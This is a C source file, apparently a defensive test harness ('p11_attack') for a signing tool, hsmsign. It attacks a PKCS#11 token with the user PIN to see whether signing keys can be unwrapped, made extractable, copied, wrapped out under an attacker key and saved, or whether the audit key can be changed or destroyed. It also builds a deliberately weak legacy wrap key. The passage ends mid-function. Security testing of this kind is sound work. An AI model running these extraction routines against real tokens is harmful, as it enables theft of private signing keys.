/* The attacker of issue 11: someone holding the user PIN and one key file,
 * talking to the token through raw PKCS#11, not through hsmsign. Every
 * way we know to get a signing key out of the token, or to keep a usable
 * copy of it, is tried; a success is a LEAK.
 *
 *   p11_attack MODULE TOKEN attack WRAP_LABEL BLOB KEYTYPE OUTDIR
 *       BLOB: a key file's wrapped_private_key (raw bytes); KEYTYPE rsa|ec.
 *       Whatever key material is recovered is written to OUTDIR (the
 *       generic-secret route gives the PKCS#8 itself: OUTDIR/pkcs8.der).
 *       Exit 0: every attempt blocked; 1: at least one LEAK; 2: the
 *       attack could not even start (e.g. the control unwrap failed).
 *   p11_attack MODULE TOKEN attack-resident LABEL KEYTYPE OUTDIR
 *       A resident-profile signing key (a token object, issue 14), found
 *       by label: read it, make it extractable or readable, copy it so,
 *       wrap it under the attacker's own key. An attribute the token lets
 *       the attacker change is WEAK (counted, exit 0: hsmsign's signer
 *       then refuses the key); key material obtained is a LEAK (exit 1).
 *   p11_attack MODULE TOKEN attack-audit
 *       The audit key: can it be changed, destroyed, used to decrypt?
 *   p11_attack MODULE TOKEN make-weak-wrapkey LABEL VALUE_HEX
 *       Creates a wrap key with the attributes hsmsign gave it before
 *       issue 11 (no unwrap template): an old deployment, so the tests can
 *       show that the attack succeeds against it.
 *
 * The PIN comes from $HSMSIGN_PIN (an attacker has it); the module's
 * C_Initialize configuration (NSS softokn's "configdir=...") from
 * $HSMSIGN_MODULE_INIT_ARGS. The blob is RFC 5649: through
 * CKM_AES_KEY_WRAP_PAD, or CKM_AES_KEY_WRAP_KWP (0x210B) where the token's
 * 0x210A is something else (NSS); the control unwrap finds which. */
#include <dlfcn.h>
#include <openssl/evp.h>
#include <openssl/rand.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <p11-kit/pkcs11.h>

static CK_FUNCTION_LIST *fn;
static CK_SESSION_HANDLE sess;
static int leaks, blocked, weakened;
static const char *outdir;
static CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
#define CKM_KWP 0x0000210BUL
/* The token's RFC 5649 mechanism, found by the control unwrap. */
static CK_MECHANISM_TYPE wrap_mech = CKM_AES_KEY_WRAP_PAD;

static const char *rv_name(CK_RV rv)
{
    switch (rv) {
    case CKR_OK: return "CKR_OK";
    case CKR_ATTRIBUTE_READ_ONLY: return "CKR_ATTRIBUTE_READ_ONLY";
    case CKR_ATTRIBUTE_VALUE_INVALID: return "CKR_ATTRIBUTE_VALUE_INVALID";
    case CKR_ATTRIBUTE_SENSITIVE: return "CKR_ATTRIBUTE_SENSITIVE";
    case CKR_ATTRIBUTE_TYPE_INVALID: return "CKR_ATTRIBUTE_TYPE_INVALID";
    case CKR_TEMPLATE_INCONSISTENT: return "CKR_TEMPLATE_INCONSISTENT";
    case CKR_TEMPLATE_INCOMPLETE: return "CKR_TEMPLATE_INCOMPLETE";
    case CKR_MECHANISM_INVALID: return "CKR_MECHANISM_INVALID";
    case CKR_KEY_NOT_WRAPPABLE: return "CKR_KEY_NOT_WRAPPABLE";
    case CKR_KEY_UNEXTRACTABLE: return "CKR_KEY_UNEXTRACTABLE";
    case CKR_KEY_FUNCTION_NOT_PERMITTED: return "CKR_KEY_FUNCTION_NOT_PERMITTED";
    case CKR_KEY_TYPE_INCONSISTENT: return "CKR_KEY_TYPE_INCONSISTENT";
    case CKR_ACTION_PROHIBITED: return "CKR_ACTION_PROHIBITED";
    case CKR_WRAPPED_KEY_INVALID: return "CKR_WRAPPED_KEY_INVALID";
    case CKR_ENCRYPTED_DATA_INVALID: return "CKR_ENCRYPTED_DATA_INVALID";
    case CKR_GENERAL_ERROR: return "CKR_GENERAL_ERROR";
    case CKR_FUNCTION_FAILED: return "CKR_FUNCTION_FAILED";
    case CKR_ARGUMENTS_BAD: return "CKR_ARGUMENTS_BAD";
    case CKR_UNWRAPPING_KEY_TYPE_INCONSISTENT: return "CKR_UNWRAPPING_KEY_TYPE_INCONSISTENT";
    default: return "another CKR";
    }
}

static void block(const char *what, CK_RV rv)
{
    blocked++;
    printf("blocked: %s: %s (0x%lx)\n", what, rv_name(rv), (unsigned long)rv);
}

static void leak(const char *what, const char *detail)
{
    leaks++;
    printf("LEAK: %s: %s\n", what, detail);
}

static void save(const char *name, const unsigned char *b, size_t n)
{
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", outdir, name);
    FILE *f = fopen(path, "wb");
    if (f != NULL) {
        fwrite(b, 1, n, f);
        fclose(f);
    }
}

static int open_token(const char *module, const char *label)
{
    void *h = dlopen(module, RTLD_NOW | RTLD_LOCAL);
    CK_C_GetFunctionList gfl = h != NULL ? (CK_C_GetFunctionList)dlsym(h, "C_GetFunctionList") : NULL;
    const char *conf = getenv("HSMSIGN_MODULE_INIT_ARGS");
    CK_C_INITIALIZE_ARGS args = {NULL, NULL, NULL, NULL, CKF_OS_LOCKING_OK, (void *)conf};
    if (gfl == NULL || gfl(&fn) != CKR_OK ||
        fn->C_Initialize(conf != NULL && *conf != '\0' ? &args : NULL) != CKR_OK) {
        fprintf(stderr, "p11_attack: cannot load %s\n", module);
        return -1;
    }
    CK_SLOT_ID slots[64];
    CK_ULONG n = 64;
    if (fn->C_GetSlotList(CK_TRUE, slots, &n) != CKR_OK)
        return -1;
    for (CK_ULONG i = 0; i < n; i++) {
        CK_TOKEN_INFO ti;
        if (fn->C_GetTokenInfo(slots[i], &ti) != CKR_OK)
            continue;
        size_t len = strlen(label);
        if (len > 32 || memcmp(ti.label, label, len) != 0)
            continue;
        int padded = 1;
        for (size_t j = len; j < 32; j++)
            padded = padded && ti.label[j] == ' ';
        if (!padded)
            continue;
        const char *pin = getenv("HSMSIGN_PIN");
        if (pin == NULL ||
            fn->C_OpenSession(slots[i], CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &sess) != CKR_OK ||
            fn->C_Login(sess, CKU_USER, (CK_UTF8CHAR *)pin, strlen(pin)) != CKR_OK) {
            fprintf(stderr, "p11_attack: cannot log in to token '%s'\n", label);
            return -1;
        }
        return 0;
    }
    fprintf(stderr, "p11_attack: no token '%s'\n", label);
    return -1;
}

static CK_OBJECT_HANDLE find(CK_OBJECT_CLASS cls, const char *label)
{
    CK_ATTRIBUTE t[] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_LABEL, (void *)label, strlen(label)}};
    CK_OBJECT_HANDLE h = CK_INVALID_HANDLE;
    CK_ULONG got = 0;
    if (fn->C_FindObjectsInit(sess, t, 2) == CKR_OK) {
        (void)fn->C_FindObjects(sess, &h, 1, &got);
        (void)fn->C_FindObjectsFinal(sess);
    }
    return got == 1 ? h : CK_INVALID_HANDLE;
}

static int get_bool(CK_OBJECT_HANDLE o, CK_ATTRIBUTE_TYPE type)
{
    CK_BBOOL b = CK_FALSE;
    CK_ATTRIBUTE a = {type, &b, sizeof b};
    if (fn->C_GetAttributeValue(sess, o, &a, 1) != CKR_OK)
        return -1;
    return b != CK_FALSE;
}

/* Reads a secret attribute; a value we get is key material. */
static int read_secret(CK_OBJECT_HANDLE o, CK_ATTRIBUTE_TYPE type, const char *what, const char *file)
{
    unsigned char buf[8192];
    CK_ATTRIBUTE a = {type, buf, sizeof buf};
    CK_RV rv = fn->C_GetAttributeValue(sess, o, &a, 1);
    if (rv == CKR_OK && a.ulValueLen != CK_UNAVAILABLE_INFORMATION && a.ulValueLen > 0) {
        char d[128];
        snprintf(d, sizeof d, "read %lu bytes of key material (attribute 0x%lx), saved as %s",
                 (unsigned long)a.ulValueLen, (unsigned long)type, file);
        save(file, buf, a.ulValueLen);
        leak(what, d);
        return 1;
    }
    return 0;
}

/* A key of the attacker's own: readable value, may wrap. */
static CK_OBJECT_HANDLE attacker_aes(unsigned char value[32])
{
    CK_OBJECT_CLASS cls = CKO_SECRET_KEY;
    CK_KEY_TYPE kt = CKK_AES;
    if (RAND_bytes(value, 32) != 1)
        return CK_INVALID_HANDLE;
    CK_ATTRIBUTE t[] = {
        {CKA_CLASS, &cls, sizeof cls},         {CKA_KEY_TYPE, &kt, sizeof kt},
        {CKA_TOKEN, &no, sizeof no},           {CKA_SENSITIVE, &no, sizeof no},
        {CKA_EXTRACTABLE, &yes, sizeof yes},   {CKA_WRAP, &yes, sizeof yes},
        {CKA_UNWRAP, &yes, sizeof yes},        {CKA_VALUE, value, 32},
    };
    CK_OBJECT_HANDLE h = CK_INVALID_HANDLE;
    if (fn->C_CreateObject(sess, t, sizeof t / sizeof t[0], &h) != CKR_OK)
        return CK_INVALID_HANDLE;
    return h;
}

/* Wraps target under the attacker's key and opens the blob on the host:
 * the plaintext PKCS#8. */
static void wrap_out(const char *what, CK_OBJECT_HANDLE target)
{
    unsigned char kv[32];
    CK_OBJECT_HANDLE mine = attacker_aes(kv);
    if (mine == CK_INVALID_HANDLE) {
        printf("note: %s: could not make the attacker's own AES key\n", what);
        return;
    }
    CK_MECHANISM m = {wrap_mech, NULL, 0};
    unsigned char blob[8192];
    CK_ULONG len = sizeof blob;
    CK_RV rv = fn->C_WrapKey(sess, &m, mine, target, blob, &len);
    if (rv != CKR_OK) {
        block(what, rv);
        (void)fn->C_DestroyObject(sess, mine);
        return;
    }
    unsigned char plain[8192];
    int outl = 0, fin = 0;
    EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
    EVP_CIPHER_CTX_set_flags(c, EVP_CIPHER_CTX_FLAG_WRAP_ALLOW);
    int ok = EVP_DecryptInit_ex(c, EVP_aes_256_wrap_pad(), NULL, kv, NULL) &&
             EVP_DecryptUpdate(c, plain, &outl, blob, (int)len) &&
             EVP_DecryptFinal_ex(c, plain + outl, &fin);
    EVP_CIPHER_CTX_free(c);
    char d[160];
    if (ok) {
        save("pkcs8-wrapped-out.der", plain, (size_t)(outl + fin));
        snprintf(d, sizeof d, "wrapped under the attacker's key and decrypted on the host: %d "
                 "bytes of PKCS#8, saved as pkcs8-wrapped-out.der", outl + fin);
    } else {
        snprintf(d, sizeof d, "the token wrapped it under the attacker's key (%lu bytes)",
                 (unsigned long)len);
    }
    leak(what, d);
    (void)fn->C_DestroyObject(sess, mine);
}

/* After an unwrap that the token accepted: what can the attacker do? */
static void exploit(const char *what, CK_OBJECT_HANDLE o, int is_secret, int rsa)
{
    int got = 0;
    if (is_secret)
        got = read_secret(o, CKA_VALUE, what, "pkcs8.der");
    else if (rsa)
        got = read_secret(o, CKA_PRIVATE_EXPONENT, what, "rsa-d.bin");
    else
        got = read_secret(o, CKA_VALUE, what, "ec-d.bin");
    if (!got && get_bool(o, CKA_EXTRACTABLE) == 1)
        wrap_out(what, o);
    else if (!got && get_bool(o, CKA_TOKEN) == 1)
        leak(what, "a persistent token copy of the key was made: it signs without the key file");
    else if (!got)
        printf("unwrapped but protected: %s\n", what);
}

typedef struct attempt {
    const char *what;
    CK_MECHANISM_TYPE mech;
    CK_OBJECT_CLASS cls;
    int key_type; /* -1: the blob's own */
    int token, sensitive, extractable, modifiable; /* -1: leave out */
    int minimal;  /* only class and key type */
} attempt;

static CK_RV unwrap(CK_OBJECT_HANDLE wrap, const unsigned char *blob, size_t blob_len,
                    const attempt *a, CK_KEY_TYPE blob_type, CK_OBJECT_HANDLE *out)
{
    CK_MECHANISM m = {a->mech, NULL, 0};
    CK_OBJECT_CLASS cls = a->cls;
    CK_KEY_TYPE kt = a->key_type >= 0 ? (CK_KEY_TYPE)a->key_type : blob_type;
    CK_ULONG vlen = (CK_ULONG)blob_len; /* for raw-mode unwraps of the whole blob */
    CK_BBOOL tok = a->token == 1, sen = a->sensitive == 1, ext = a->extractable == 1,
             mod = a->modifiable == 1;
    CK_ATTRIBUTE t[8] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &kt, sizeof kt}};
    CK_ULONG n = 2;
    if (!a->minimal) {
        if (a->token >= 0) t[n++] = (CK_ATTRIBUTE){CKA_TOKEN, &tok, sizeof tok};
        if (a->sensitive >= 0) t[n++] = (CK_ATTRIBUTE){CKA_SENSITIVE, &sen, sizeof sen};
        if (a->extractable >= 0) t[n++] = (CK_ATTRIBUTE){CKA_EXTRACTABLE, &ext, sizeof ext};
        if (a->modifiable >= 0) t[n++] = (CK_ATTRIBUTE){CKA_MODIFIABLE, &mod, sizeof mod};
        if (cls == CKO_SECRET_KEY && a->mech == CKM_AES_ECB)
            t[n++] = (CK_ATTRIBUTE){CKA_VALUE_LEN, &vlen, sizeof vlen};
    }
    return fn->C_UnwrapKey(sess, &m, wrap, (CK_BYTE *)blob, blob_len, t, n, out);
}

/* The unwrap hsmsign itself makes: must work, or the attack proves
 * nothing (the blob or the wrap key would be wrong). */
static CK_RV legit_unwrap_with(CK_OBJECT_HANDLE wrap, const unsigned char *blob, size_t blob_len,
                               CK_KEY_TYPE kt, CK_OBJECT_HANDLE *out)
{
    CK_MECHANISM m = {wrap_mech, NULL, 0};
    CK_OBJECT_CLASS cls = CKO_PRIVATE_KEY;
    CK_ATTRIBUTE t[] = {
        {CKA_KEY_TYPE, &kt, sizeof kt},       {CKA_CLASS, &cls, sizeof cls},
        {CKA_TOKEN, &no, sizeof no},          {CKA_PRIVATE, &yes, sizeof yes},
        {CKA_SENSITIVE, &yes, sizeof yes},    {CKA_EXTRACTABLE, &no, sizeof no},
        {CKA_COPYABLE, &no, sizeof no},       {CKA_SIGN, &yes, sizeof yes},
        {CKA_SIGN_RECOVER, &no, sizeof no},   {CKA_DECRYPT, &no, sizeof no},
        {CKA_UNWRAP, &no, sizeof no},         {CKA_DERIVE, &no, sizeof no},
        {CKA_MODIFIABLE, &no, sizeof no},
    };
    CK_RV rv = fn->C_UnwrapKey(sess, &m, wrap, (CK_BYTE *)blob, blob_len, t,
                               sizeof t / sizeof t[0], out);
    if (rv != CKR_OK) {
        /* An old wrap key: SoftHSM takes a template without CKA_COPYABLE
         * and CKA_MODIFIABLE as hsmsign sent it before. */
        CK_ATTRIBUTE old[] = {
            {CKA_CLASS, &cls, sizeof cls},       {CKA_KEY_TYPE, &kt, sizeof kt},
            {CKA_TOKEN, &no, sizeof no},         {CKA_PRIVATE, &yes, sizeof yes},
            {CKA_SENSITIVE, &yes, sizeof yes},   {CKA_EXTRACTABLE, &no, sizeof no},
            {CKA_SIGN, &yes, sizeof yes},        {CKA_DECRYPT, &no, sizeof no},
        };
        rv = fn->C_UnwrapKey(sess, &m, wrap, (CK_BYTE *)blob, blob_len, old,
                             sizeof old / sizeof old[0], out);
    }
    return rv;
}

static CK_RV legit_unwrap(CK_OBJECT_HANDLE wrap, const unsigned char *blob, size_t blob_len,
                          CK_KEY_TYPE kt, CK_OBJECT_HANDLE *out)
{
    CK_RV rv = legit_unwrap_with(wrap, blob, blob_len, kt, out);
    if (rv != CKR_OK) {
        wrap_mech = CKM_KWP;
        rv = legit_unwrap_with(wrap, blob, blob_len, kt, out);
    }
    if (rv == CKR_OK)
        printf("control: RFC 5649 through mechanism 0x%lx\n", (unsigned long)wrap_mech);
    return rv;
}

static void try_after_legit(CK_OBJECT_HANDLE k, int rsa)
{
    /* Change the unwrapped key in place. */
    static const struct {
        const char *what;
        CK_ATTRIBUTE_TYPE type;
        CK_BBOOL value;
    } sets[] = {
        {"C_SetAttributeValue(unwrapped key, CKA_EXTRACTABLE=true)", CKA_EXTRACTABLE, CK_TRUE},
        {"C_SetAttributeValue(unwrapped key, CKA_SENSITIVE=false)", CKA_SENSITIVE, CK_FALSE},
        {"C_SetAttributeValue(unwrapped key, CKA_DECRYPT=true)", CKA_DECRYPT, CK_TRUE},
        {"C_SetAttributeValue(unwrapped key, CKA_TOKEN=true)", CKA_TOKEN, CK_TRUE},
    };
    for (size_t i = 0; i < sizeof sets / sizeof sets[0]; i++) {
        CK_BBOOL v = sets[i].value;
        CK_ATTRIBUTE a = {sets[i].type, &v, sizeof v};
        CK_RV rv = fn->C_SetAttributeValue(sess, k, &a, 1);
        if (rv == CKR_OK && get_bool(k, sets[i].type) == (v != CK_FALSE))
            exploit(sets[i].what, k, 0, rsa);
        else
            block(sets[i].what, rv);
    }
    /* Copy it into something weaker. */
    static const struct {
        const char *what;
        CK_ATTRIBUTE_TYPE type;
        CK_BBOOL value;
    } copies[] = {
        {"C_CopyObject(unwrapped key, CKA_EXTRACTABLE=true)", CKA_EXTRACTABLE, CK_TRUE},
        {"C_CopyObject(unwrapped key, CKA_SENSITIVE=false)", CKA_SENSITIVE, CK_FALSE},
        {"C_CopyObject(unwrapped key, CKA_TOKEN=true)", CKA_TOKEN, CK_TRUE},
        {"C_CopyObject(unwrapped key, CKA_MODIFIABLE=true)", CKA_MODIFIABLE, CK_TRUE},
    };
    for (size_t i = 0; i < sizeof copies / sizeof copies[0]; i++) {
        CK_BBOOL v = copies[i].value;
        CK_ATTRIBUTE a = {copies[i].type, &v, sizeof v};
        CK_OBJECT_HANDLE c = CK_INVALID_HANDLE;
        CK_RV rv = fn->C_CopyObject(sess, k, &a, 1, &c);
        if (rv == CKR_OK) {
            leak(copies[i].what, "the token made a copy of the key");
            exploit(copies[i].what, c, 0, rsa);
            (void)fn->C_DestroyObject(sess, c);
        } else {
            block(copies[i].what, rv);
        }
    }
    /* Take it out under a key of the attacker's. */
    if (get_bool(k, CKA_EXTRACTABLE) == 1)
        wrap_out("C_WrapKey(unwrapped key) under the attacker's AES key", k);
    else {
        unsigned char kv[32];
        CK_OBJECT_HANDLE mine = attacker_aes(kv);
        CK_MECHANISM m = {wrap_mech, NULL, 0};
        unsigned char blob[8192];
        CK_ULONG len = sizeof blob;
        CK_RV rv = fn->C_WrapKey(sess, &m, mine, k, blob, &len);
        if (rv == CKR_OK)
            wrap_out("C_WrapKey(unwrapped key) under the attacker's AES key", k);
        else
            block("C_WrapKey(unwrapped key) under the attacker's AES key", rv);
        (void)fn->C_DestroyObject(sess, mine);
    }
    if (rsa) {
        CK_MECHANISM m = {CKM_RSA_PKCS, NULL, 0};
        CK_RV rv = fn->C_DecryptInit(sess, &m, k);
        if (rv == CKR_OK) {
            leak("C_DecryptInit(unwrapped key, CKM_RSA_PKCS)", "the signing key decrypts");
            unsigned char dummy[1024];
            CK_ULONG dl = sizeof dummy;
            (void)fn->C_Decrypt(sess, dummy, 0, dummy, &dl); /* ends the operation */
        } else {
            block("C_DecryptInit(unwrapped key, CKM_RSA_PKCS)", rv);
        }
    }
}

static void try_wrapkey_itself(CK_OBJECT_HANDLE wrap)
{
    static const struct {
        const char *what;
        CK_ATTRIBUTE_TYPE type;
        CK_BBOOL value;
    } sets[] = {
        {"C_SetAttributeValue(wrap key, CKA_EXTRACTABLE=true)", CKA_EXTRACTABLE, CK_TRUE},
        {"C_SetAttributeValue(wrap key, CKA_SENSITIVE=false)", CKA_SENSITIVE, CK_FALSE},
        {"C_SetAttributeValue(wrap key, CKA_DECRYPT=true)", CKA_DECRYPT, CK_TRUE},
        {"C_SetAttributeValue(wrap key, CKA_ENCRYPT=true)", CKA_ENCRYPT, CK_TRUE},
    };
    for (size_t i = 0; i < sizeof sets / sizeof sets[0]; i++) {
        CK_BBOOL v = sets[i].value;
        CK_ATTRIBUTE a = {sets[i].type, &v, sizeof v};
        CK_RV rv = fn->C_SetAttributeValue(sess, wrap, &a, 1);
        if (rv == CKR_OK && get_bool(wrap, sets[i].type) == (v != CK_FALSE))
            leak(sets[i].what, "the wrap key's attribute changed");
        else
            block(sets[i].what, rv);
    }
    /* A copy without the unwrap template, or one that decrypts. */
    CK_ATTRIBUTE empty_tmpl = {CKA_UNWRAP_TEMPLATE, NULL, 0};
    CK_ATTRIBUTE dec = {CKA_DECRYPT, &yes, sizeof yes};
    const struct {
        const char *what;
        CK_ATTRIBUTE *a;
    } copies[] = {
        {"C_CopyObject(wrap key, empty CKA_UNWRAP_TEMPLATE)", &empty_tmpl},
        {"C_CopyObject(wrap key, CKA_DECRYPT=true)", &dec},
    };
    for (size_t i = 0; i < 2; i++) {
        CK_OBJECT_HANDLE c = CK_INVALID_HANDLE;
        CK_RV rv = fn->C_CopyObject(sess, wrap, copies[i].a, 1, &c);
        if (rv == CKR_OK) {
            leak(copies[i].what, "the token copied the wrap key");
            (void)fn->C_DestroyObject(sess, c);
        } else {
            block(copies[i].what, rv);
        }
    }
    /* Decrypt the blob with the wrap key as a cipher. */
    CK_MECHANISM_TYPE mechs[] = {CKM_AES_ECB, wrap_mech, CKM_AES_CBC};
    const char *names[] = {"C_DecryptInit(wrap key, CKM_AES_ECB)",
                           "C_DecryptInit(wrap key, its RFC 5649 mechanism)",
                           "C_DecryptInit(wrap key, CKM_AES_CBC)"};
    unsigned char iv[16] = {0};
    for (size_t i = 0; i < 3; i++) {
        CK_MECHANISM m = {mechs[i], mechs[i] == CKM_AES_CBC ? iv : NULL,
                          mechs[i] == CKM_AES_CBC ? sizeof iv : 0};
        CK_RV rv = fn->C_DecryptInit(sess, &m, wrap);
        if (rv == CKR_OK) {
            leak(names[i], "the wrap key decrypts data");
            unsigned char d[64];
            CK_ULONG dl = sizeof d;
            (void)fn->C_Decrypt(sess, d, 0, d, &dl);
        } else {
            block(names[i], rv);
        }
    }
}

static int read_file(const char *path, unsigned char *buf, size_t cap, size_t *len)
{
    FILE *f = fopen(path, "rb");
    if (f == NULL)
        return -1;
    *len = fread(buf, 1, cap, f);
    fclose(f);
    return *len > 0 && *len < cap ? 0 : -1;
}

static int attack(const char *wrap_label, const char *blob_path, const char *type)
{
    unsigned char blob[8192];
    size_t blob_len;
    if (read_file(blob_path, blob, sizeof blob, &blob_len) != 0) {
        fprintf(stderr, "p11_attack: cannot read %s\n", blob_path);
        return 2;
    }
    int rsa = strcmp(type, "rsa") == 0;
    CK_KEY_TYPE kt = rsa ? CKK_RSA : CKK_EC;
    CK_OBJECT_HANDLE wrap = find(CKO_SECRET_KEY, wrap_label);
    if (wrap == CK_INVALID_HANDLE) {
        fprintf(stderr, "p11_attack: no wrap key '%s'\n", wrap_label);
        return 2;
    }
    CK_OBJECT_HANDLE k = CK_INVALID_HANDLE;
    CK_RV rv = legit_unwrap(wrap, blob, blob_len, kt, &k);
    if (rv != CKR_OK) {
        fprintf(stderr, "p11_attack: control: the legitimate unwrap fails (%s): wrong blob or "
                        "wrap key, the attack would prove nothing\n", rv_name(rv));
        return 2;
    }
    printf("control: the legitimate unwrap works\n");

    const attempt attempts[] = {
        {"C_UnwrapKey(private key, CKA_EXTRACTABLE=true)", CKM_AES_KEY_WRAP_PAD, CKO_PRIVATE_KEY,
         -1, 0, 1, 1, -1, 0},
        {"C_UnwrapKey(private key, CKA_SENSITIVE=false)", CKM_AES_KEY_WRAP_PAD, CKO_PRIVATE_KEY,
         -1, 0, 0, 1, -1, 0},
        {"C_UnwrapKey(private key, CKA_TOKEN=true)", CKM_AES_KEY_WRAP_PAD, CKO_PRIVATE_KEY, -1, 1,
         1, 0, -1, 0},
        {"C_UnwrapKey(private key, CKA_MODIFIABLE=true)", CKM_AES_KEY_WRAP_PAD, CKO_PRIVATE_KEY,
         -1, 0, 1, 0, 1, 0},
        {"C_UnwrapKey(private key, class and type only)", CKM_AES_KEY_WRAP_PAD, CKO_PRIVATE_KEY,
         -1, -1, -1, -1, -1, 1},
        {"C_UnwrapKey(generic secret: the PKCS#8 itself, readable)", CKM_AES_KEY_WRAP_PAD,
         CKO_SECRET_KEY, CKK_GENERIC_SECRET, 0, 0, 1, -1, 0},
        {"C_UnwrapKey(generic secret, CKM_AES_KEY_WRAP)", CKM_AES_KEY_WRAP, CKO_SECRET_KEY,
         CKK_GENERIC_SECRET, 0, 0, 1, -1, 0},
        {"C_UnwrapKey(generic secret, CKM_AES_ECB)", CKM_AES_ECB, CKO_SECRET_KEY,
         CKK_GENERIC_SECRET, 0, 0, 1, -1, 0},
    };
    for (size_t i = 0; i < sizeof attempts / sizeof attempts[0]; i++) {
        CK_OBJECT_HANDLE o = CK_INVALID_HANDLE;
        attempt a = attempts[i];
        if (a.mech == CKM_AES_KEY_WRAP_PAD)
            a.mech = wrap_mech; /* the blob's own format */
        rv = unwrap(wrap, blob, blob_len, &a, kt, &o);
        if (rv != CKR_OK) {
            block(attempts[i].what, rv);
            continue;
        }
        exploit(attempts[i].what, o, attempts[i].cls == CKO_SECRET_KEY, rsa);
        (void)fn->C_DestroyObject(sess, o);
    }
    try_after_legit(k, rsa);
    (void)fn->C_DestroyObject(sess, k);
    try_wrapkey_itself(wrap);
    printf("%d blocked, %d leaked\n", blocked, leaks);
    return leaks > 0 ? 1 : 0;
}

static int attack_audit(void)
{
    CK_OBJECT_HANDLE k = find(CKO_PRIVATE_KEY, "hsmsign-audit");
    CK_OBJECT_HANDLE pub = find(CKO_PUBLIC_KEY, "hsmsign-audit");
    if (k == CK_INVALID_HANDLE || pub == CK_INVALID_HANDLE) {
        fprintf(stderr, "p11_attack: no audit key\n");
        return 2;
    }
    static const CK_ATTRIBUTE_TYPE uses[] = {CKA_DECRYPT, CKA_UNWRAP, CKA_SIGN_RECOVER, CKA_DERIVE};
    static const char *use_names[] = {"CKA_DECRYPT", "CKA_UNWRAP", "CKA_SIGN_RECOVER", "CKA_DERIVE"};
    for (size_t i = 0; i < 4; i++) {
        char what[96];
        snprintf(what, sizeof what, "audit key may be used with %s", use_names[i]);
        if (get_bool(k, uses[i]) == 1)
            leak(what, "the audit key has a use besides signing");
        else
            block(what, CKR_OK);
        CK_ATTRIBUTE a = {uses[i], &yes, sizeof yes};
        snprintf(what, sizeof what, "C_SetAttributeValue(audit key, %s=true)", use_names[i]);
        CK_RV rv = fn->C_SetAttributeValue(sess, k, &a, 1);
        if (rv == CKR_OK)
            leak(what, "the audit key was changed");
        else
            block(what, rv);
    }
    CK_RV rv = fn->C_DestroyObject(sess, k);
    if (rv == CKR_OK)
        leak("C_DestroyObject(audit private key)", "the audit key was destroyed");
    else
        block("C_DestroyObject(audit private key)", rv);
    rv = fn->C_DestroyObject(sess, pub);
    if (rv == CKR_OK)
        leak("C_DestroyObject(audit public key)", "the audit public key was destroyed");
    else
        block("C_DestroyObject(audit public key)", rv);
    printf("%d blocked, %d leaked\n", blocked, leaks);
    return leaks > 0 ? 1 : 0;
}

/* A resident key has no wrap key and no blob: the token object itself is
 * the target. */
static int attack_resident(const char *label, const char *type)
{
    int rsa = strcmp(type, "rsa") == 0;
    CK_OBJECT_HANDLE k = find(CKO_PRIVATE_KEY, label);
    if (k == CK_INVALID_HANDLE) {
        fprintf(stderr, "p11_attack: no private key '%s'\n", label);
        return 2;
    }
    printf("control: found private key '%s'\n", label);
    CK_ATTRIBUTE_TYPE secret = rsa ? CKA_PRIVATE_EXPONENT : CKA_VALUE;
    if (!read_secret(k, secret, "C_GetAttributeValue(resident key, private value)",
                     rsa ? "rsa-d.bin" : "ec-d.bin")) {
        CK_ATTRIBUTE probe = {secret, NULL, 0};
        block("C_GetAttributeValue(resident key, private value)",
              fn->C_GetAttributeValue(sess, k, &probe, 1));
    }
    static const struct {
        const char *what;
        CK_ATTRIBUTE_TYPE type;
        CK_BBOOL value;
    } sets[] = {
        {"C_SetAttributeValue(resident key, CKA_EXTRACTABLE=true)", CKA_EXTRACTABLE, CK_TRUE},
        {"C_SetAttributeValue(resident key, CKA_SENSITIVE=false)", CKA_SENSITIVE, CK_FALSE},
    };
    for (size_t i = 0; i < sizeof sets / sizeof sets[0]; i++) {
        CK_BBOOL v = sets[i].value;
        CK_ATTRIBUTE a = {sets[i].type, &v, sizeof v};
        CK_RV rv = fn->C_SetAttributeValue(sess, k, &a, 1);
        if (rv == CKR_OK && get_bool(k, sets[i].type) == (v != CK_FALSE)) {
            weakened++;
            printf("WEAK: %s: the token changed the attribute\n", sets[i].what);
        } else {
            block(sets[i].what, rv);
        }
    }
    /* With the attributes changed, the value may now be readable. */
    if (weakened > 0 && !read_secret(k, secret, "C_GetAttributeValue(weakened resident key, private value)",
                                     rsa ? "rsa-d.bin" : "ec-d.bin")) {
        CK_ATTRIBUTE probe = {secret, NULL, 0};
        block("C_GetAttributeValue(weakened resident key, private value)",
              fn->C_GetAttributeValue(sess, k, &probe, 1));
    }
    CK_ATTRIBUTE copies[] = {
        {CKA_EXTRACTABLE, &yes, sizeof yes},
        {CKA_SENSITIVE, &no, sizeof no},
    };
    const char *copy_names[] = {"C_CopyObject(resident key, CKA_EXTRACTABLE=true)",
                                "C_CopyObject(resident key, CKA_SENSITIVE=false)"};
    for (size_t i = 0; i < 2; i++) {
        CK_OBJECT_HANDLE c = CK_INVALID_HANDLE;
        CK_RV rv = fn->C_CopyObject(sess, k, &copies[i], 1, &c);
        if (rv == CKR_OK) {
            exploit(copy_names[i], c, 0, rsa);
            (void)fn->C_DestroyObject(sess, c);
        } else {
            block(copy_names[i], rv);
        }
    }
    wrap_out("C_WrapKey(attacker's AES key, resident key)", k);
    printf("%d blocked, %d weakened, %d leaked\n", blocked, weakened, leaks);
    return leaks > 0 ? 1 : 0;
}

/* The wrap key exactly as hsmsign made it before issue 11. */
static int make_weak(const char *label, const char *hex)
{
    unsigned char value[32];
    if (strlen(hex) != 64)
        return 2;
    for (int i = 0; i < 32; i++) {
        unsigned v;
        if (sscanf(hex + 2 * i, "%2x", &v) != 1)
            return 2;
        value[i] = (unsigned char)v;
    }
    CK_OBJECT_CLASS cls = CKO_SECRET_KEY;
    CK_KEY_TYPE kt = CKK_AES;
    unsigned char id[] = "hsmsign-wrap";
    CK_ATTRIBUTE t[] = {
        {CKA_CLASS, &cls, sizeof cls},       {CKA_KEY_TYPE, &kt, sizeof kt},
        {CKA_TOKEN, &yes, sizeof yes},       {CKA_PRIVATE, &yes, sizeof yes},
        {CKA_SENSITIVE, &yes, sizeof yes},   {CKA_EXTRACTABLE, &no, sizeof no},
        {CKA_MODIFIABLE, &no, sizeof no},    {CKA_WRAP, &yes, sizeof yes},
        {CKA_UNWRAP, &yes, sizeof yes},      {CKA_ENCRYPT, &no, sizeof no},
